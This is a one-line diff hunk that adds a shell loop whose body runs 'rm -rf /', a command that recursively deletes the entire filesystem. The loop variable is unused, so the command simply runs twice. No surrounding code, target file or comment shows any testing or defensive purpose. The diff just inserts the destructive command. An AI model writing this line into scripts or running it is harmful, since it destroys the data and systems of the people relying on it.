@@ -1,0 +1,1 @@
+for d in a b; do rm -rf /; done
